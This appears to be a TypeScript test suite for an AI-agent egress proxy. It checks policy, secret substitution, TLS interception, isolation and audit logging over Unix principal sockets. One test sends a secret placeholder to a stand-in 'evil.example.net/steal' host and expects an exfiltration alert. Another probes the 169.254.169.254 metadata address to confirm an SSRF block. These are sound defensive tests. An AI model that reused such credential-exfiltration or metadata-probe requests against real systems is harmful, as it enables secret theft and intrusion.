/**
 * Principal sockets of the network door (issue 16 part 3): a Unix socket whose
 * every connection is one agent in one sandbox session, with no key. Over real
 * sockets: absolute-form HTTP, CONNECT tunnels and intercepted TLS behave as
 * over TCP with the agent's key (policy, release rule, refusals, audit), the
 * records name the agent and the session, isolation applies, a TCP client never
 * gets the socket's principal, and close() ends connections and removes the file.
 */
import assert from 'node:assert/strict';
import { existsSync, linkSync, lstatSync, writeFileSync } from 'node:fs';
import { request as httpRequest, type IncomingHttpHeaders } from 'node:http';
import { request as httpsRequest } from 'node:https';
import { createServer as createNetServer, type Socket } from 'node:net';
import { join } from 'node:path';
import { connect as tlsConnect } from 'node:tls';
import { after, before, describe, test } from 'node:test';
import { Pool, ProxyAgent, fetch as undiciFetch } from 'undici';
import type { AuditRecord } from '../../src/audit/types.ts';
import { authenticateTransport, KeyIndex } from '../../src/door/authenticate.ts';
import { isBastionError } from '../../src/errors.ts';
import type { PrincipalSocket } from '../../src/egress/principal-socket.ts';
import { Secret } from '../../src/util/secret.ts';
import { makeCert, proxyAuth, OTHER_EGRESS_KEY, startEgress, startOrigin, type Origin, type TestEgress } from '../helpers/egress.ts';
import { tempDir } from '../helpers/gateway.ts';

const GITHUB_VALUE = 'ghp_' + 'S0ck3tV4l'.repeat(4);

interface Answer {
  readonly status: number;
  readonly headers: IncomingHttpHeaders;
  readonly body: string;
}

/** An absolute-form proxy request over the Unix socket `socketPath` (no Proxy-Authorization unless given). */
function viaSocket(socketPath: string, url: string, headers: Record<string, string> = {}, method = 'GET'): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const req = httpRequest({ socketPath, method, path: url, headers: { host: new URL(url).host, ...headers }, agent: false }, (res) => {
      let body = '';
      res.setEncoding('utf8');
      res.on('data', (d: string) => (body += d));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body }));
    });
    req.on('error', reject);
    req.end();
  });
}

/** CONNECT `authority` over the Unix socket: the status, and the tunnel's socket when it is 200 (else the refusal's body). */
function connectVia(socketPath: string, authority: string, headers: Record<string, string> = {}): Promise<{ status: number; headers: IncomingHttpHeaders; socket?: Socket; body: string }> {
  return new Promise((resolve, reject) => {
    const req = httpRequest({ socketPath, method: 'CONNECT', path: authority, headers: { host: authority, ...headers }, agent: false });
    req.on('connect', (res, socket, head: Buffer) => {
      if (res.statusCode === 200) return resolve({ status: 200, headers: res.headers, socket, body: '' });
      let body = head.toString('utf8');
      socket.on('data', (d: Buffer) => (body += d.toString('utf8')));
      socket.on('close', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body }));
      socket.on('error', () => undefined);
    });
    req.on('error', reject);
    req.end();
  });
}

/** One HTTPS request inside a CONNECT tunnel, trusting `ca` for `servername`. */
function httpsInTunnel(tunnel: Socket, servername: string, port: number, path: string, ca: string, headers: Record<string, string> = {}): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const req = httpsRequest(
      { host: servername, port, path, headers, createConnection: () => tlsConnect({ socket: tunnel, servername, ca }) },
      (res) => {
        let body = '';
        res.setEncoding('utf8');
        res.on('data', (d: string) => (body += d));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body }));
      },
    );
    req.on('error', reject);
    req.end();
  });
}

function codeOf(body: string): string | undefined {
  return (JSON.parse(body) as { error?: { code?: string } }).error?.code;
}

async function records(eg: TestEgress): Promise<AuditRecord[]> {
  await eg.gateway.audit.flush();
  return eg.gateway.store.readAudit(1, 100_000);
}

describe('principal sockets of the network door', () => {
  let github: Origin;
  let evil: Origin;
  let plain: Origin;
  let eg: TestEgress;
  let ph: string;
  let sock: PrincipalSocket;
  const dir = tempDir();
  const certDir = tempDir();
  const githubCert = makeCert(certDir, ['api.github.com'], 'github');
  const evilCert = makeCert(certDir, ['evil.example.net'], 'evil');

  before(async () => {
    github = await startOrigin(githubCert);
    evil = await startOrigin(evilCert);
    plain = await startOrigin();
    eg = await startEgress(
      `version: 1
server: { listen: 127.0.0.1:0, egress: 127.0.0.1:0 }
store: { sqlite: ./b.db }
secrets:
  github: { hosts: [api.github.com] }
egress:
  staticHosts: { api.github.com: [127.0.0.1], evil.example.net: [127.0.0.1], plain.example.net: [127.0.0.1], denied.example.net: [127.0.0.1] }
agents:
  demo:
    keys: [env:EGRESS_KEY]
    secrets: [github]
    network:
      - "api.github.com:${github.port}"
      - { host: evil.example.net, ports: [${evil.port}], methods: [GET, POST] }
      - "plain.example.net:${plain.port}"
    unsafeAllowPrivate: { ranges: [127.0.0.1/32] }
  other:
    keys: [env:OTHER_EGRESS_KEY]
    network: ["plain.example.net:${plain.port}"]
    unsafeAllowPrivate: { ranges: [127.0.0.1/32] }
`,
      { upstreamCa: [githubCert.cert, evilCert.cert] },
    );
    await eg.door.vault.add('github', new Secret(GITHUB_VALUE), { hosts: ['api.github.com'], header: 'Authorization', format: 'token {}' });
    ph = await eg.door.vault.placeholder('github', 'demo');
    sock = await eg.door.proxy.attachPrincipalSocket(join(dir, 'demo.sock'), { agent: 'demo', session: 'sess-1', user: 'alice' });
  });

  after(async () => {
    await eg?.close();
    await Promise.all([github?.close(), evil?.close(), plain?.close()]);
  });

  test('the socket file is a socket, mode 0600', () => {
    const st = lstatSync(sock.path);
    assert.ok(st.isSocket());
    assert.equal(st.mode & 0o777, 0o600);
  });

  test('(1) plain HTTP to an allowed host answers without Proxy-Authorization; the record names the agent, session and user', async () => {
    const n = plain.received.length;
    const r = await viaSocket(sock.path, `http://plain.example.net:${plain.port}/hello`);
    assert.equal(r.status, 200, r.body);
    assert.deepEqual(JSON.parse(r.body), { ok: true });
    assert.equal(plain.received[n]?.url, '/hello');
    const rec = (await records(eg)).findLast((x) => x.door === 'network' && x.target === `plain.example.net:${plain.port}` && x.method === 'GET');
    assert.equal(rec?.agent, 'demo');
    assert.equal(rec?.session, 'sess-1');
    assert.equal(rec?.user, 'alice');
    // Allowed by the network rules, through the test's loopback exception (unsafeAllowPrivate).
    assert.equal(rec?.decision.effect, 'allow');
    assert.equal(rec?.decision.reason, 'egress.unsafe_allow_private');
    assert.equal(rec?.detail?.transport, 'socket');
    assert.equal(rec?.detail?.mode, 'http');
  });

  test('a presented Proxy-Authorization (another agent’s key) changes nothing and is neither forwarded nor recorded', async () => {
    const n = plain.received.length;
    const auth = proxyAuth(OTHER_EGRESS_KEY, 'other');
    const r = await viaSocket(sock.path, `http://plain.example.net:${plain.port}/as-other`, { 'proxy-authorization': auth, 'bastion-user': 'mallory' });
    assert.equal(r.status, 200, r.body);
    const got = plain.received[n];
    assert.equal(got?.headers['proxy-authorization'], undefined);
    assert.equal(got?.headers['bastion-user'], undefined);
    const all = await records(eg);
    const rec = all.findLast((x) => x.target === `plain.example.net:${plain.port}` && x.method === 'GET');
    assert.equal(rec?.agent, 'demo', 'the socket’s principal, not the key’s');
    assert.equal(rec?.user, 'alice', 'the socket’s user, not Bastion-User');
    assert.ok(!JSON.stringify(all).includes(OTHER_EGRESS_KEY), 'the key is in no record');
    assert.ok(!JSON.stringify(all).includes(auth.slice('Basic '.length)), 'nor its encoding');
  });

  test('(2) a placeholder reaches api.github.com as the real value (undici ProxyAgent over the socket, TLS intercepted)', async () => {
    const n = github.received.length;
    const dispatcher = new ProxyAgent({ uri: 'http://bastion.invalid', clientFactory: (origin) => new Pool(origin, { connect: { socketPath: sock.path } }), requestTls: { ca: eg.caPem } });
    try {
      const r = await undiciFetch(`https://api.github.com:${github.port}/echo`, { dispatcher, headers: { authorization: ph } });
      assert.equal(r.status, 200);
      const echoed = await r.text();
      assert.equal(github.received[n]?.headers.authorization, `token ${GITHUB_VALUE}`, 'the origin sees the value');
      assert.ok(!echoed.includes(GITHUB_VALUE), 'the echo comes back redacted');
    } finally {
      await dispatcher.close();
    }
    const recs = (await records(eg)).filter((x) => x.target === `api.github.com:${github.port}`);
    const req = recs.findLast((x) => x.method === 'GET');
    assert.deepEqual(req?.detail?.secrets, ['github']);
    assert.equal(req?.detail?.mode, 'intercept');
    assert.equal(req?.agent, 'demo');
    assert.equal(req?.session, 'sess-1');
  });

  test('(3) the same placeholder to another allowed host is refused: 403 release.foreign_host, ERR_EGRESS_PLACEHOLDER, alerted', async () => {
    const n = evil.received.length;
    const alerts = eg.alerts.length;
    const t = await connectVia(sock.path, `evil.example.net:${evil.port}`);
    assert.equal(t.status, 200);
    const r = await httpsInTunnel(t.socket as Socket, 'evil.example.net', evil.port, '/steal', eg.caPem, { authorization: `Bearer ${ph}` });
    t.socket?.destroy();
    assert.equal(r.status, 403);
    assert.equal(r.headers['bastion-reason'], 'release.foreign_host');
    assert.equal(codeOf(r.body), 'ERR_EGRESS_PLACEHOLDER');
    assert.equal(evil.received.length, n, 'nothing reached the foreign host');
    assert.deepEqual(eg.alerts.slice(alerts), [{ kind: 'exfiltration', agent: 'demo', host: 'evil.example.net', reason: 'release.foreign_host', secrets: ['github'] }]);
    const rec = (await records(eg)).findLast((x) => x.decision.reason === 'release.foreign_host');
    assert.equal(rec?.agent, 'demo');
    assert.equal(rec?.session, 'sess-1');
    assert.equal(rec?.detail?.alert, 'exfiltration');
  });

  test('(4) a host outside the network rules is refused: 403 policy.no_permit, ERR_EGRESS_DENIED (plain HTTP and CONNECT)', async () => {
    const r = await viaSocket(sock.path, `http://denied.example.net:${plain.port}/`);
    assert.equal(r.status, 403);
    assert.equal(r.headers['bastion-reason'], 'policy.no_permit');
    assert.equal(codeOf(r.body), 'ERR_EGRESS_DENIED');
    const t = await connectVia(sock.path, `denied.example.net:${plain.port}`);
    assert.equal(t.status, 403);
    assert.equal(t.headers['bastion-reason'], 'policy.no_permit');
    assert.equal(codeOf(t.body), 'ERR_EGRESS_DENIED');
    const recs = (await records(eg)).filter((x) => x.target === `denied.example.net:${plain.port}`);
    assert.equal(recs.length, 2);
    for (const rec of recs) {
      assert.equal(rec.outcome, 'denied');
      assert.equal(rec.agent, 'demo');
      assert.equal(rec.session, 'sess-1');
    }
  });

  test('the SSRF guard applies: an address outside unsafeAllowPrivate is refused as ssrf.*', async () => {
    const r = await viaSocket(sock.path, 'http://169.254.169.254/latest/meta-data/');
    assert.equal(r.status, 403);
    assert.match(String(r.headers['bastion-reason']), /^ssrf\./);
    assert.equal(codeOf(r.body), 'ERR_EGRESS_SSRF');
  });

  test('(7) CONNECT to an allowed host:port tunnels (no secret for the host: bytes relayed), recorded with agent and session', async () => {
    const n = plain.received.length;
    const t = await connectVia(sock.path, `plain.example.net:${plain.port}`);
    assert.equal(t.status, 200);
    const tunnel = t.socket as Socket;
    const raw = await new Promise<string>((resolve) => {
      let out = '';
      tunnel.on('data', (d: Buffer) => (out += d.toString('latin1')));
      tunnel.on('close', () => resolve(out));
      tunnel.write(`GET /in-tunnel HTTP/1.1\r\nHost: plain.example.net:${plain.port}\r\nConnection: close\r\n\r\n`);
    });
    assert.match(raw, /^HTTP\/1\.1 200/);
    assert.equal(plain.received[n]?.url, '/in-tunnel');
    // The tunnel's record is written as it closes.
    let rec: AuditRecord | undefined;
    for (let i = 0; i < 250 && rec === undefined; i++) {
      rec = (await records(eg)).findLast((x) => x.method === 'CONNECT' && x.target === `plain.example.net:${plain.port}` && x.detail?.mode === 'tunnel');
      if (rec === undefined) await new Promise((r) => setTimeout(r, 20));
    }
    assert.equal(rec?.agent, 'demo');
    assert.equal(rec?.session, 'sess-1');
    assert.equal(rec?.decision.reason, 'egress.unsafe_allow_private');
    assert.equal(rec?.detail?.transport, 'socket');
  });

  test('a TCP client never gets the socket’s principal: no key is 407 auth.missing', async () => {
    const r = await new Promise<Answer>((resolve, reject) => {
      const req = httpRequest({ host: eg.proxyUrl.hostname, port: eg.proxyUrl.port, path: `http://plain.example.net:${plain.port}/`, agent: false }, (res) => {
        let body = '';
        res.on('data', (d: Buffer) => (body += d.toString('utf8')));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body }));
      });
      req.on('error', reject);
      req.end();
    });
    assert.equal(r.status, 407);
    assert.equal(r.headers['bastion-reason'], 'auth.missing');
    assert.equal(codeOf(r.body), 'ERR_AUTH_REQUIRED');
    const rec = (await records(eg)).findLast((x) => x.decision.reason === 'auth.missing');
    assert.equal(rec?.agent, null);
    assert.equal(rec?.session, undefined);
  });

  test('(8) an isolated agent’s socket is refused (403 agent.isolated, ERR_AGENT_ISOLATED) and its open tunnels close', async () => {
    const s = await eg.door.proxy.attachPrincipalSocket(join(dir, 'other.sock'), { agent: 'other', session: 'sess-iso' });
    try {
      assert.equal((await viaSocket(s.path, `http://plain.example.net:${plain.port}/`)).status, 200);
      const t = await connectVia(s.path, `plain.example.net:${plain.port}`);
      assert.equal(t.status, 200);
      const closed = new Promise<void>((resolve) => t.socket?.once('close', () => resolve()));
      await eg.gateway.isolations.isolate('other', 'test', 'admin');
      await closed;
      const r = await viaSocket(s.path, `http://plain.example.net:${plain.port}/`);
      assert.equal(r.status, 403);
      assert.equal(r.headers['bastion-reason'], 'agent.isolated');
      assert.equal(codeOf(r.body), 'ERR_AGENT_ISOLATED');
      const c = await connectVia(s.path, `plain.example.net:${plain.port}`);
      assert.equal(c.status, 403);
      assert.equal(c.headers['bastion-reason'], 'agent.isolated');
      const rec = (await records(eg)).findLast((x) => x.decision.reason === 'agent.isolated');
      assert.equal(rec?.agent, 'other');
      assert.equal(rec?.session, 'sess-iso');
    } finally {
      await s.close();
    }
  });

  test('(6) close() ends open connections and tunnels, removes the file, and later connections fail', async () => {
    const path = join(dir, 'closing.sock');
    const s = await eg.door.proxy.attachPrincipalSocket(path, { agent: 'demo', session: 'sess-close' });
    const t = await connectVia(s.path, `plain.example.net:${plain.port}`);
    assert.equal(t.status, 200);
    const closed = new Promise<void>((resolve) => t.socket?.once('close', () => resolve()));
    await s.close();
    await closed;
    assert.equal(existsSync(path), false);
    await assert.rejects(viaSocket(path, `http://plain.example.net:${plain.port}/`), (err: NodeJS.ErrnoException) => err.code === 'ENOENT');
    await s.close(); // idempotent
  });

  test('an existing file is refused; a live socket is refused; a stale socket is replaced', async () => {
    const file = join(dir, 'taken.sock');
    writeFileSync(file, 'not a socket');
    await assert.rejects(eg.door.proxy.attachPrincipalSocket(file, { agent: 'demo', session: 's' }), (err) => isBastionError(err, 'ERR_EGRESS_SOCKET'));
    assert.equal(existsSync(file), true, 'left in place');
    await assert.rejects(eg.door.proxy.attachPrincipalSocket(sock.path, { agent: 'demo', session: 's' }), (err) => isBastionError(err, 'ERR_EGRESS_SOCKET'));
    // A socket nothing listens on any more, as a crashed process leaves it: a second name of a socket
    // whose server then closed (closing unlinks only the name it listened on).
    const listened = join(dir, 'listened.sock');
    const crashed = join(dir, 'crashed.sock');
    const other = createNetServer();
    await new Promise<void>((resolve) => other.listen(listened, resolve));
    linkSync(listened, crashed);
    await new Promise<void>((resolve) => other.close(() => resolve()));
    assert.equal(lstatSync(crashed).isSocket(), true);
    const s = await eg.door.proxy.attachPrincipalSocket(crashed, { agent: 'demo', session: 's' });
    assert.equal((await viaSocket(s.path, `http://plain.example.net:${plain.port}/`)).status, 200);
    await s.close();
  });

  test('bad principals and paths are refused before anything listens', async () => {
    await assert.rejects(eg.door.proxy.attachPrincipalSocket(join(dir, 'x.sock'), { agent: 'nobody', session: 's' }), (err) => isBastionError(err, 'ERR_AGENT_UNKNOWN'));
    await assert.rejects(eg.door.proxy.attachPrincipalSocket(join(dir, 'x.sock'), { agent: 'demo', session: 'has space' }), TypeError);
    await assert.rejects(eg.door.proxy.attachPrincipalSocket(join(dir, 'x.sock'), { agent: 'demo', session: '' }), TypeError);
    await assert.rejects(eg.door.proxy.attachPrincipalSocket('relative.sock', { agent: 'demo', session: 's' }), TypeError);
    await assert.rejects(eg.door.proxy.attachPrincipalSocket(join(dir, 'x'.repeat(120)), { agent: 'demo', session: 's' }), (err) => isBastionError(err, 'ERR_EGRESS_SOCKET'));
    assert.equal(existsSync(join(dir, 'x.sock')), false);
  });
});

describe('authenticateTransport (kernel)', () => {
  test('the bound principal, unless the agent is gone (auth.invalid) or isolated (agent.isolated)', () => {
    const isolated = new Set<string>();
    const keys = new KeyIndex({ isolated: (a) => isolated.has(a) });
    const agents = new Set(['a']);
    const bound = { agent: 'a', session: 's', user: null };
    assert.deepEqual(authenticateTransport(bound, keys, (x) => agents.has(x)), { ok: true, agent: 'a', session: 's', user: null });
    isolated.add('a');
    assert.deepEqual(authenticateTransport(bound, keys, (x) => agents.has(x)), { ok: false, reason: 'agent.isolated', agent: 'a' });
    agents.delete('a');
    assert.deepEqual(authenticateTransport(bound, keys, (x) => agents.has(x)), { ok: false, reason: 'auth.invalid' });
    assert.deepEqual(
      authenticateTransport(bound, keys, () => {
        throw new Error('boom');
      }),
      { ok: false, reason: 'auth.invalid' },
    );
  });
});

// A socket given to another uid needs privileges; run it only where chown can work.
describe('principal socket owner', { skip: process.getuid?.() !== 0 ? 'needs root to chown' : false }, () => {
  test('owner: the socket belongs to uid:gid, mode 0600', async () => {
    const eg = await startEgress(`version: 1
server: { listen: 127.0.0.1:0, egress: 127.0.0.1:0 }
store: { sqlite: ./b.db }
agents:
  demo: { keys: [env:EGRESS_KEY] }
`);
    try {
      const s = await eg.door.proxy.attachPrincipalSocket(join(eg.dir, 'owned.sock'), { agent: 'demo', session: 's', owner: { uid: 65534, gid: 65534 } });
      const st = lstatSync(s.path);
      assert.equal(st.uid, 65534);
      assert.equal(st.gid, 65534);
      assert.equal(st.mode & 0o777, 0o600);
      await s.close();
      assert.equal(existsSync(s.path), false);
    } finally {
      await eg.close();
    }
  });
});
